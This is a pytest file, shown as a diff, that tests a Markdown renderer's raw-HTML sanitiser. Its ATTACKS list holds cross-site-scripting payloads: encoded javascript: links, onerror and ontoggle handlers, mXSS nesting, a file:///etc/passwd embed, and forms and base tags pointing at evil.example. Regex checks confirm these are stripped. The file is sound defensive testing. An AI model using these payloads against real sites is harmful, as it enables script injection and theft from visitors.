@@ -1,0 +1,81 @@
+"""Raw HTML (`raw_html: yes`) goes through an allowlist sanitiser: what survives is safe."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from generator.sources.markdown import render
+
+
+def html_of(text: str) -> str:
+    return render(text, lambda name: None, lambda *_: None, raw_html=True).html
+
+
+ATTACKS = [
+    # the case a blocklist missed: a javascript: address encoded twice inside srcdoc
+    '<iframe srcdoc="&amp;lt;a href=&amp;quot;jav&amp;#x61;script:alert(1)&amp;quot;&amp;gt;'
+    'x&amp;lt;/a&amp;gt;"></iframe>',
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
+    '<img src="x" onerror="alert(1)">',
+    '<a href="jav&#x61;script&colon;alert(1)">x</a>',
+    '<a href="&#0000106;avascript:alert(1)">x</a>',
+    "<a href=' java\tscript:alert(1)'>x</a>",
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<embed src="file:///etc/passwd">',
+    '<form action="https://evil.example"><input name="q"><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="https://evil.example/">',
+    '<div style="background:url(https://tracker.example/p.png)">x</div>',
+    "<script>alert(1)</script>",
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<details open ontoggle="alert(1)">x</details>',
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_that_runs_or_loads_survives(attack: str) -> None:
+    out = html_of(attack)
+    assert not re.search(r"<(script|iframe|object|embed|form|meta|base|svg|math|style)\b", out)
+    assert not re.search(r"\bon[a-z]+\s*=", out)
+    assert not re.search(r"(javascript|vbscript|data|file)\s*:", out, re.IGNORECASE)
+    assert "url(" not in out and "tracker.example" not in out
+
+
+def test_ordinary_html_stays() -> None:
+    out = html_of('<kbd>Ctrl</kbd> <abbr title="Key performance indicator">KPI</abbr>')
+    assert '<kbd>Ctrl</kbd> <abbr title="Key performance indicator">KPI</abbr>' in out
+    out = html_of("<div>\n\n**bold** inside a div\n\n</div>")
+    assert "<div>\n<p><strong>bold</strong> inside a div</p>\n</div>" in out
+
+
+def test_every_link_gets_rel_and_remote_images_lose_their_address() -> None:
+    out = html_of(
+        '<a href="https://e.org" rel="opener">e</a> <img src="https://e.org/p.png" alt="p">'
+    )
+    assert '<a href="https://e.org" rel="noopener noreferrer">e</a>' in out
+    assert '<img alt="p">' in out
+    assert '<img src="map.png" alt="">' in html_of('<img src="map.png" alt="">')
+
+
+def test_what_the_markdown_renderer_writes_survives() -> None:
+    out = render(
+        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n\nNote[^1] [[jane]]\n\n[^1]: foot\n",
+        lambda name: None,
+        lambda *_: None,
+        raw_html=True,
+    ).html
+    assert '<th style="text-align:right">a</th>' in out
+    assert (
+        'class="task-list-item-checkbox" checked="checked" disabled="disabled" type="checkbox"'
+        in out
+    )
+    assert 'id="fnref1"' in out and 'id="fn1"' in out and 'href="#fn1"' in out
+    assert '<span class="broken-link">jane</span>' in out
+
+
+def test_ids_of_ones_own_are_dropped() -> None:
+    assert html_of('<div id="main">x</div>') == "<div>x</div>"
